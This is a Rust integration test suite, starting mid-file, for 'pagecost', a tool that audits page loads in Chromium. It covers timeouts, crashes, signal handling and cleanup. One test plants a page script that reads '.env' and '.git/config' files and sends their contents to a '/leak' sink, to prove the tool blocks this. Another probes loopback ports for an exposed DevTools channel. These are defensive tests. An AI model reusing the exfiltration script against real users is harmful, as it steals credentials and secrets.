        notes(&poll).contains("still busy 2 s after its load event"),
        "{}",
        notes(&poll)
    );
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    let ticks = entries(&poll)
        .iter()
        .filter(|e| e["url"].as_str().unwrap().ends_with("/tick"))
        .count();
    assert!(ticks >= 4, "{ticks} polls in 2 s at 300 ms");
    let (never, took) = timed_audit(
        &server.url("/never"),
        tmp.path(),
        &["--audit-timeout", "3s"],
    );
    assert_eq!(never["partial"], true);
    assert!(notes(&never).contains("time limit"), "{}", notes(&never));
    assert_eq!(by_path(&never, "/hang")["error"]["kind"], "aborted");
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    // A page that navigates itself forever: each document is the page's (not an iframe).
    let (again, took) = timed_audit(
        &server.url("/again"),
        tmp.path(),
        &["--audit-timeout", "3s"],
    );
    assert_eq!(again["partial"], true);
    assert!(took < std::time::Duration::from_secs(15), "{took:?}");
    let docs = entries(&again);
    assert!(docs.len() >= 3, "{} documents", docs.len());
    assert!(docs
        .iter()
        .all(|e| e["resource_type"] == "document" && e["frame_depth"] == 0));
    // Registering a service worker is refused (service workers are off: its script is never
    // fetched), and a websocket whose handshake hangs is no request in flight: both pages
    // end at their quiet period, whole.
    for (page, last) in [("/sw", "/refused"), ("/ws", "/after-ws")] {
        let (load, took) = timed_audit(&server.url(page), tmp.path(), &[]);
        assert_eq!(load["partial"], false, "{page}: {}", notes(&load));
        assert!(
            took < std::time::Duration::from_secs(15),
            "{page}: {took:?}"
        );
        by_path(&load, last);
    }
    assert!(
        !server
            .paths()
            .iter()
            .any(|p| p == "/sw.js" || p == "/registered"),
        "{:?}",
        server.paths()
    );
    let (dialogs, _) = timed_audit(&server.url("/dialogs"), tmp.path(), &[]);
    assert_eq!(dialogs["partial"], false);
    by_path(&dialogs, "/after-dialogs");
    std::thread::sleep(ms(300));
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "every browser ended with its load, its crash handlers too"
    );
    assert_eq!(
        (profiles_in(tmp.path()), chromium_folders_in(tmp.path())),
        (0, 0),
        "no profile or socket folder is left"
    );
}

/// A body past `--max-body` (here an endless download a script reads, declared 2 GB) stops
/// the page's loading there, as Esc stops it: the entry is `too_large`, the load partial and
/// said so, and the audit ends in seconds instead of reading 2 GB.
#[test]
fn a_body_past_its_limit_stops_the_page_loading() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        (
            "/",
            Route::html(
                "<p>big</p><img src=/small.png>\
                 <script>fetch('/endless.js').then(r => r.arrayBuffer())</script>",
            ),
        ),
        ("/small.png", Route::ok("image/png", vec![0u8; 100])),
        (
            "/endless.js",
            Route::ok("text/javascript", "").action(support::Action::Endless(2_000_000_000)),
        ),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let (load, took) = timed_audit(&server.url("/"), tmp.path(), &["--max-body", "1MB"]);
    assert!(took < std::time::Duration::from_secs(20), "{took:?}");
    let big = by_path(&load, "/endless.js");
    assert_eq!(big["error"]["kind"], "too_large", "{big}");
    assert!(big["decoded_bytes"].as_u64().unwrap() > 1_000_000, "{big}");
    assert_eq!(load["partial"], true);
    assert!(notes(&load).contains("size limit"), "{}", notes(&load));
    assert_eq!(by_path(&load, "/small.png")["status"], 200);
}

/// A page that makes 10,000 requests is recorded whole: each request the browser made is an
/// entry, answered or failed as the browser says (Chromium itself refuses most of them with
/// ERR_INSUFFICIENT_RESOURCES when so many are pending at once).
#[test]
fn ten_thousand_requests_are_recorded_whole() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        (
            "/",
            Route::html(
                "<script>for (let i = 0; i < 10000; i++) fetch('/r?' + i, {keepalive: false});</script>",
            ),
        ),
        ("/r", Route::ok("text/plain", "x")),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let (load, took) = timed_audit(&server.url("/"), tmp.path(), &[]);
    let made = entries(&load)
        .iter()
        .filter(|e| e["url"].as_str().unwrap().contains("/r?"))
        .count();
    assert_eq!(made, 10_000, "in {took:?}");
    assert!(took < std::time::Duration::from_secs(90), "{took:?}");
}

/// The browser killed in the middle of a load: the audit ends at once with what was
/// recorded, marked partial, and leaves no process behind.
#[cfg(target_os = "linux")]
#[test]
fn a_browser_killed_mid_load_leaves_a_partial_load_and_no_process() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        ("/", Route::html("<p>slow</p><img src=/hang>")),
        (
            "/hang",
            Route::ok("image/png", "").action(support::Action::Hang),
        ),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().to_string_lossy().into_owned();
    let (killed, (load, took)) = std::thread::scope(|s| {
        let killer = s.spawn(|| {
            // The browser's own process (started with a profile under `dir`), once the page
            // is loading: the server has been asked for the image that never comes.
            for _ in 0..300 {
                std::thread::sleep(std::time::Duration::from_millis(100));
                let loading = server.paths().iter().any(|p| p == "/hang");
                if let (true, Some(&(pid, _))) = (loading, support::browser_processes(&dir).first())
                {
                    std::thread::sleep(std::time::Duration::from_millis(300));
                    std::process::Command::new("kill")
                        .args(["-9", &pid.to_string()])
                        .status()
                        .unwrap();
                    return true;
                }
            }
            false
        });
        let audit = timed_audit(&server.url("/"), tmp.path(), &["--audit-timeout", "60s"]);
        (killer.join().unwrap(), audit)
    });
    assert!(killed, "the browser was found mid-load and killed");
    assert_eq!(load["partial"], true);
    assert!(
        notes(&load).contains("crashed or was killed"),
        "{}",
        notes(&load)
    );
    assert!(took < std::time::Duration::from_secs(30), "{took:?}");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "no helper outlives the killed browser"
    );
}

/// An untraced batch (--no-trace) runs its pages in one browser, up to --jobs at once, each
/// in a context of its own; when that browser is killed, the pages it had fail (or end partial) and the batch
/// goes on with a new browser; every page has its result and no process is left.
#[cfg(target_os = "linux")]
#[test]
fn a_batch_shares_one_browser_and_survives_its_crash() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let mut routes = vec![(
        "/hang.png",
        Route::ok("image/png", "").action(support::Action::Hang),
    )];
    let pages: Vec<String> = (0..12).map(|i| format!("/p{i}")).collect();
    for (i, p) in pages.iter().enumerate() {
        // Pages 4 to 7 wait on an image that never comes: the browser dies under them.
        let body = if (4..8).contains(&i) {
            "<img src=/hang.png>"
        } else {
            "<p>quick</p>"
        };
        routes.push((p.as_str(), Route::html(body)));
    }
    let server = TestServer::start(routes);
    let tmp = tempfile::tempdir().unwrap();
    let list = tmp.path().join("urls.txt");
    let urls: Vec<String> = pages.iter().map(|p| server.url(p)).collect();
    std::fs::write(&list, urls.join("\n")).unwrap();
    let dir = tmp.path().to_string_lossy().into_owned();
    let watcher = std::thread::spawn(move || {
        // Browsers told apart by their profile folders, so a reused pid cannot fool the count.
        let mut seen = std::collections::BTreeSet::new();
        let mut first_seen: Option<std::time::Instant> = None;
        let mut killed = false;
        for _ in 0..600 {
            std::thread::sleep(std::time::Duration::from_millis(100));
            let now = support::browser_processes(&dir);
            seen.extend(now.iter().map(|(_, profile)| profile.clone()));
            // The first browser, once it has been stuck on the hanging pages for 2.5 s: killed.
            if !killed && seen.len() == 1 && now.len() == 1 {
                let since = *first_seen.get_or_insert_with(std::time::Instant::now);
                if since.elapsed() >= std::time::Duration::from_millis(2500) {
                    std::process::Command::new("kill")
                        .args(["-9", &now[0].0.to_string()])
                        .status()
                        .unwrap();
                    killed = true;
                }
            }
            if killed && now.is_empty() && seen.len() > 1 {
                break;
            }
        }
        (killed, seen.len())
    });
    let out = assert_cmd::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp.path())
        .args([
            "audit",
            "--input-file",
            list.to_str().unwrap(),
            "--engine",
            "chromium",
        ])
        .args([
            "--jobs",
            "4",
            "--no-trace",
            "--audit-timeout",
            "20s",
            "--format",
            "json",
            "-q",
        ])
        .timeout(std::time::Duration::from_secs(120))
        .output()
        .unwrap();
    let (killed, browsers) = watcher.join().unwrap();
    assert!(killed, "the first browser was found and killed");
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    let results = v.as_array().unwrap();
    assert_eq!(results.len(), 12, "every page has its result");
    assert_eq!(
        browsers, 2,
        "one browser, then one more after it was killed"
    );
    let hurt = results
        .iter()
        .filter(|r| r["error"].is_string() || r["load"]["partial"] == true)
        .count();
    assert!(
        (1..=8).contains(&hurt),
        "only the pages the browser had: {hurt}"
    );
    let fine = results
        .iter()
        .filter(|r| r["load"]["partial"] == false)
        .count();
    assert!(fine >= 4, "the batch went on: {fine} whole loads");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "no browser process is left"
    );
}

/// Ctrl-C during a browser load: the partial report, exit 130, and no browser process left.
#[cfg(target_os = "linux")]
#[test]
fn ctrl_c_ends_the_browser_with_the_audit() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = hanging_page();
    let tmp = tempfile::tempdir().unwrap();
    let child = std::process::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp.path())
        .args([
            "audit",
            &server.url("/"),
            "--engine",
            "chromium",
            "--format",
            "json",
            "-q",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let t = std::time::Instant::now();
    while !server.paths().iter().any(|p| p == "/hang.png") && t.elapsed().as_secs() < 30 {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    std::thread::sleep(std::time::Duration::from_millis(300));
    signal(&child, "-INT");
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(130), "{err}");
    let load: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| panic!("{e}: {err}"));
    assert_eq!(load["partial"], true);
    assert_eq!(by_path(&load, "/hang.png")["error"]["kind"], "aborted");
    std::thread::sleep(std::time::Duration::from_millis(500));
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "no browser process outlives Ctrl-C"
    );
}

/// Told to stop while its browser loads (SIGTERM from a CI job's timeout or `timeout`, or
/// Ctrl-C in a batch, which has no partial report to give), pagecost ends every browser it
/// started, their helpers and their profile folders, and exits as the signal asks (143,
/// 130). Chromium does not notice its parent's end by itself.
#[cfg(target_os = "linux")]
#[test]
fn a_stopped_audit_or_batch_leaves_no_browser_behind() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = hanging_page();
    let url = server.url("/");
    let list_dir = tempfile::tempdir().unwrap();
    let list = list_dir.path().join("urls.txt");
    std::fs::write(&list, format!("{url}\n{url}\n")).unwrap();
    let audit = ["audit", url.as_str()];
    let batch = [
        "audit",
        "--input-file",
        list.to_str().unwrap(),
        "--jobs",
        "2",
    ];
    for (args, signal, code) in [(&audit[..], "-TERM", 143), (&batch[..], "-INT", 130)] {
        let tmp = tempfile::tempdir().unwrap();
        let mut child = loading(&server, tmp.path(), args);
        std::thread::sleep(std::time::Duration::from_millis(300));
        self::signal(&child, signal);
        let status = child.wait().unwrap();
        assert_eq!(status.code(), Some(code), "{args:?} {signal}");
        std::thread::sleep(std::time::Duration::from_millis(500));
        assert_eq!(
            support::processes_under(tmp.path()),
            0,
            "{args:?} {signal}: a browser was left"
        );
        assert_eq!(
            profiles_in(tmp.path()),
            0,
            "{args:?} {signal}: a profile folder was left"
        );
        assert_eq!(
            chromium_folders_in(tmp.path()),
            0,
            "{args:?} {signal}: Chromium's socket folder was left"
        );
    }
}

/// The browsers' profile folders in `dir`.
fn profiles_in(dir: &std::path::Path) -> usize {
    named_in(dir, "pagecost-profile-")
}

/// The folders Chromium makes in `dir` (its TMPDIR) for each browser's singleton socket.
fn chromium_folders_in(dir: &std::path::Path) -> usize {
    named_in(dir, "org.chromium.Chromium.") + named_in(dir, ".org.chromium.Chromium.")
}

fn named_in(dir: &std::path::Path, prefix: &str) -> usize {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().starts_with(prefix))
        .count()
}

/// Killed outright (SIGKILL: a CI runner's hard stop, the OOM killer), pagecost can end
/// nothing itself: the kernel ends its browser, started to die with its parent, and the
/// browser's helpers end with it. The profile folder left behind is removed by the next
/// pagecost that starts a browser.
#[cfg(target_os = "linux")]
#[test]
fn a_killed_pagecost_takes_its_browser_with_it() {
    use std::os::unix::process::ExitStatusExt;
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = hanging_page();
    let tmp = tempfile::tempdir().unwrap();
    let mut child = loading(&server, tmp.path(), &["audit", &server.url("/")]);
    let helpers = support::processes_under(tmp.path());
    signal(&child, "-KILL");
    assert_eq!(child.wait().unwrap().signal(), Some(9));
    let t = std::time::Instant::now();
    while support::processes_under(tmp.path()) > 0 && t.elapsed().as_secs() < 10 {
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    assert_eq!(
        support::processes_under(tmp.path()),
        0,
        "the browser and its helpers ({helpers} processes) end with a killed pagecost"
    );
    assert_eq!(
        (profiles_in(tmp.path()), chromium_folders_in(tmp.path())),
        (1, 1),
        "the killed one's profile and Chromium's socket folder are left"
    );
    let (next, _) = timed_audit(CASCADE, tmp.path(), &[]);
    assert!(next["entries"].as_array().is_some_and(|e| !e.is_empty()));
    assert_eq!(
        (profiles_in(tmp.path()), chromium_folders_in(tmp.path())),
        (0, 0),
        "the next pagecost removes the profile a killed one left, with its socket folder"
    );
}

/// The browser's DevTools channel is pagecost's alone. While an audit runs, no process of
/// the browser's listens on a TCP port (it talks over pipes), and no listening loopback
/// port of the machine, asked by another user (`nobody`, when the test runs as root) for
/// DevTools (`/json/version`, a WebSocket to `/devtools/browser`), answers with DevTools.
#[cfg(target_os = "linux")]
#[test]
fn the_browsers_control_channel_is_open_to_no_other_user() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = hanging_page();
    let tmp = tempfile::tempdir().unwrap();
    let mut child = loading(&server, tmp.path(), &["audit", &server.url("/")]);
    let browser = pids_under(tmp.path());
    let listening = listening_sockets();
    let own: Vec<u16> = (listening.iter())
        .filter(|(inode, _)| browser.iter().any(|pid| holds_socket(*pid, *inode)))
        .map(|(_, port)| *port)
        .collect();
    let server_port = url::Url::parse(&server.url("/")).unwrap().port().unwrap();
    let ports: Vec<String> = (listening.iter())
        .map(|(_, port)| *port)
        .filter(|p| *p != server_port)
        .map(|p| p.to_string())
        .collect();
    let answered = probe_as_another_user(&ports);
    signal(&child, "-KILL");
    let _ = child.wait();
    assert!(!browser.is_empty(), "no browser process found");
    assert!(own.is_empty(), "the browser listens on {own:?}");
    assert!(answered.is_empty(), "DevTools answered on {answered}");
}

/// Pids of the processes whose command line names `dir`.
#[cfg(target_os = "linux")]
fn pids_under(dir: &std::path::Path) -> Vec<u32> {
    let dir = dir.to_string_lossy().into_owned();
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|p| {
            let pid: u32 = p.file_name().to_str()?.parse().ok()?;
            let cmd = std::fs::read(p.path().join("cmdline")).ok()?;
            String::from_utf8_lossy(&cmd).contains(&dir).then_some(pid)
        })
        .collect()
}

/// Every listening TCP socket of the machine (IPv4 and IPv6): its inode and port.
#[cfg(target_os = "linux")]
fn listening_sockets() -> Vec<(u64, u16)> {
    let mut all = Vec::new();
    for table in ["/proc/net/tcp", "/proc/net/tcp6"] {
        let text = std::fs::read_to_string(table).unwrap_or_default();
        for line in text.lines().skip(1) {
            let f: Vec<&str> = line.split_whitespace().collect();
            // sl local_address rem_address st ... inode (the 10th field); 0A is LISTEN.
            if f.len() > 9 && f[3] == "0A" {
                let port = f[1].rsplit(':').next().unwrap();
                all.push((
                    f[9].parse().unwrap(),
                    u16::from_str_radix(port, 16).unwrap(),
                ));
            }
        }
    }
    all
}

/// Whether process `pid` holds the socket with this inode.
#[cfg(target_os = "linux")]
fn holds_socket(pid: u32, inode: u64) -> bool {
    let Ok(fds) = std::fs::read_dir(format!("/proc/{pid}/fd")) else {
        return false;
    };
    let wanted = format!("socket:[{inode}]");
    fds.flatten()
        .any(|fd| std::fs::read_link(fd.path()).is_ok_and(|l| l.to_string_lossy() == wanted))
}

/// Asks each loopback port for DevTools as user `nobody` (as the test's own user when it is
/// not root): the ports that answered, with what.
#[cfg(target_os = "linux")]
fn probe_as_another_user(ports: &[String]) -> String {
    const PROBE: &str = r#"
import socket, sys
for port in sys.argv[1:]:
    for req in (b"GET /json/version HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n",
                b"GET /devtools/browser HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
                b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
                b"Sec-WebSocket-Version: 13\r\n\r\n"):
        try:
            s = socket.create_connection(("127.0.0.1", int(port)), timeout=1)
            s.sendall(req)
            got = s.recv(4096).decode("latin-1")
            s.close()
        except OSError:
            continue
        if "webSocketDebuggerUrl" in got or " 101 " in got.split("\r\n")[0]:
            print(port, got.split("\r\n")[0])
"#;
    let root = std::fs::read_to_string("/proc/self/status")
        .unwrap()
        .lines()
        .any(|l| l.starts_with("Uid:") && l.split_whitespace().nth(1) == Some("0"));
    let mut cmd = if root {
        let mut c = std::process::Command::new("setpriv");
        // The system's Python: a user's own (pyenv) may be unreadable to `nobody`.
        c.args([
            "--reuid=65534",
            "--regid=65534",
            "--clear-groups",
            "/usr/bin/python3",
        ]);
        c
    } else {
        std::process::Command::new("python3")
    };
    let out = cmd.args(["-c", PROBE]).args(ports).output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).into_owned()
}

/// A local page audited with the browser cannot read its folder: its scripts' fetches of a
/// dotfile, a file beside it and files in sub-folders (one in a dot folder) get nothing of
/// them, while what the page references loads; the load says what was served. A folder
/// target serves the folder the user named, its dotfiles still never (the files beside the
/// page are readable there, which also shows that the test sees a leak).
#[test]
fn a_local_page_cannot_read_its_folder_with_the_browser() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let sink = TestServer::start(vec![("/leak", Route::ok("image/gif", ""))]);
    let dir = tempfile::tempdir().unwrap();
    let page = format!(
        "<img src=ok.png><script>\
         for (const f of ['.env', 'secret.txt', 'sub/.git/config', 'sub/other.txt']) {{\
           fetch(f).then(r => r.text()).then(t => {{\
             new Image().src = '{}?' + encodeURIComponent(f + '=' + t.slice(0, 40)); }});\
         }}</script>",
        sink.url("/leak")
    );
    std::fs::create_dir_all(dir.path().join("sub/.git")).unwrap();
    for (name, body) in [
        ("page.html", page.as_str()),
        ("index.html", page.as_str()),
        (".env", "TOKEN=SECRET_ENV"),
        ("secret.txt", "SECRET_TXT"),
        ("sub/.git/config", "SECRET_GIT"),
        ("sub/other.txt", "SECRET_OTHER"),
        ("ok.png", "not really a png"),
    ] {
        std::fs::write(dir.path().join(name), body).unwrap();
    }
    let leaked = |target: &str| {
        let before = sink.paths().len();
        let load = audit_json(&[target, "--engine", "chromium"]);
        let paths = sink.paths()[before..].join(" ");
        let got = percent_encoding::percent_decode_str(&paths)
            .decode_utf8_lossy()
            .into_owned();
        assert_eq!(by_path(&load, "/ok.png")["status"], 200, "{target}");
        (got, notes(&load))
    };
    let file = dir.path().join("page.html");
    let (got, said) = leaked(file.to_str().unwrap());
    assert!(got.contains(".env="), "the page ran its fetches: {got}");
    for secret in ["SECRET_ENV", "SECRET_TXT", "SECRET_GIT", "SECRET_OTHER"] {
        assert!(
            !got.contains(secret),
            "{secret} read by a local page: {got}"
        );
    }
    assert!(
        said.contains("served only this page and the 1 local file it references"),
        "{said}"
    );
    let folder = format!("{}/", dir.path().display());
    let (got, said) = leaked(&folder);
    assert!(
        got.contains("SECRET_TXT") && got.contains("SECRET_OTHER"),
        "{got}"
    );
    assert!(
        !got.contains("SECRET_ENV") && !got.contains("SECRET_GIT"),
        "{got}"
    );
    assert!(said.contains("dotfiles are never served"), "{said}");
}

/// Stopped mid-batch (Ctrl-C) or mid-audit (SIGTERM), the browser engine loses nothing that
/// finished: the batch's finished page and the cut one (partial) are on stdout as JSON
/// lines, a single audit's partial report is written, and pagecost exits 130 or 143.
#[cfg(target_os = "linux")]
#[test]
fn a_stopped_browser_batch_or_audit_keeps_what_finished() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        ("/quick", Route::html("<p>quick</p>")),
        ("/", Route::html("<p>slow</p><img src=/hang.png>")),
        (
            "/hang.png",
            Route::ok("image/png", "").action(support::Action::Hang),
        ),
    ]);
    let (quick, hang) = (server.url("/quick"), server.url("/"));
    let batch = ["audit", &quick, &hang, "--jobs", "2", "--format", "jsonl"];
    let audit = ["audit", &hang, "--format", "json"];
    for (args, sig, code) in [(&batch[..], "-INT", 130), (&audit[..], "-TERM", 143)] {
        let tmp = tempfile::tempdir().unwrap();
        let seen = server.paths().len();
        let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
            .env("TMPDIR", tmp.path())
            .args(args)
            .args(["--engine", "chromium", "-q"])
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        let mut stdout = std::io::BufReader::new(child.stdout.take().unwrap());
        let mut first = String::new();
        if args == batch {
            // The quick page's line comes as soon as it finished, before any signal.
            std::io::BufRead::read_line(&mut stdout, &mut first).unwrap();
            assert!(first.contains("/quick"), "{first}");
        }
        let t = std::time::Instant::now();
        while !server.paths()[seen..].iter().any(|x| x == "/hang.png") {
            assert!(t.elapsed().as_secs() < 30, "{args:?}: never loaded");
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        std::thread::sleep(std::time::Duration::from_millis(300));
        signal(&child, sig);
        let mut rest = String::new();
        std::io::Read::read_to_string(&mut stdout, &mut rest).unwrap();
        let stdout = first + &rest;
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(code), "{args:?}: {err}");
        let loads: Vec<Value> = if args == batch {
            let lines: Vec<Value> = (stdout.lines())
                .map(|l| serde_json::from_str(l).unwrap())
                .collect();
            assert_eq!(lines.len(), 2, "{stdout}");
            assert_eq!(
                lines[0]["load"]["partial"], false,
                "the quick page finished"
            );
            lines
                .into_iter()
                .skip(1)
                .map(|l| l["load"].clone())
                .collect()
        } else {
            vec![serde_json::from_str(&stdout).unwrap_or_else(|e| panic!("{e}: {err}"))]
        };
        assert_eq!(loads[0]["partial"], true, "{args:?}");
        assert!(err.contains("interrupted"), "{err}");
    }
}

/// Profile folders left behind are removed only when provably abandoned: one whose lock a
/// live process holds (a pagecost in another PID namespace, where its PID names no process
/// here) stays, whatever its PID says; one whose lock is free goes.
#[cfg(target_os = "linux")]
#[test]
fn only_profile_folders_no_live_process_holds_are_swept() {
    use std::os::fd::AsRawFd;
    let Some(_one) = support::browser_test() else {
        return;
    };
    let tmp = tempfile::tempdir().unwrap();
    // A PID no process here has, as a pagecost in another container would seem.
    let pid = (1..1000)
        .map(|k| 4_000_000 - k)
        .find(|p| !std::path::Path::new(&format!("/proc/{p}")).exists())
        .unwrap();
    let folder = |what: &str| tmp.path().join(format!("pagecost-profile-{pid}-{what}"));
    let (live, dead) = (folder("live"), folder("dead"));
    for dir in [&live, &dead] {
        std::fs::create_dir(dir).unwrap();
        std::fs::write(dir.join("pagecost.lock"), "").unwrap();
    }
    let held = std::fs::File::open(live.join("pagecost.lock")).unwrap();
    // SAFETY: flock(2) on a descriptor the test owns.
    assert_eq!(unsafe { libc::flock(held.as_raw_fd(), libc::LOCK_EX) }, 0);
    let server = TestServer::start(vec![("/", Route::html("<p>hi</p>"))]);
    let out = assert_cmd::Command::new(assert_cmd::cargo::cargo_bin("pagecost"))
        .env("TMPDIR", tmp.path())
        .args(["audit", &server.url("/"), "--engine", "chromium", "-q"])
        .timeout(std::time::Duration::from_secs(60))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(live.exists(), "a folder a live process holds was removed");
    assert!(!dead.exists(), "an abandoned folder was left");
    drop(held);
}

/// A page whose main thread never yields: `--audit-timeout` holds within about two seconds
/// (the script is stopped, not waited for), the document that did arrive is reported whole,
/// not aborted; and a page that freezes after its load is not reported healthy: partial,
/// said so.
#[test]
fn a_page_whose_main_thread_never_yields_is_cut_on_time_and_said_so() {
    let Some(_one) = support::browser_test() else {
        return;
    };
    let server = TestServer::start(vec![
        (
            "/spin",
            Route::html("<p>spins</p><script>for (;;) {}</script>"),
        ),
        (
            "/freeze",
            Route::html(
                "<p>freezes</p><script>onload = () => setTimeout(() => { for (;;) {} }, 50)\
                 </script>",
            ),
        ),
    ]);
    let tmp = tempfile::tempdir().unwrap();
    let (load, took) = timed_audit(&server.url("/spin"), tmp.path(), &["--audit-timeout", "4s"]);
    // The limit, the browser's start and about two seconds; waited for, the script cost ten more.
    assert!(took.as_secs_f64() < 10.0, "took {took:?}");
    assert_eq!(load["partial"], true);
    let doc = by_path(&load, "/spin");
    assert_eq!(doc["status"], 200, "{doc}");
    assert!(doc["error"].is_null(), "{doc}");
    assert!(doc["body_bytes"].as_u64().unwrap() > 0, "{doc}");
    assert!(
        notes(&load).contains("main thread was blocked"),
        "{}",
        notes(&load)
    );
    let (load, _) = timed_audit(&server.url("/freeze"), tmp.path(), &[]);
    assert_eq!(load["partial"], true, "{}", notes(&load));
    assert!(
        notes(&load).contains("main thread was blocked"),
        "{}",
        notes(&load)
    );
}
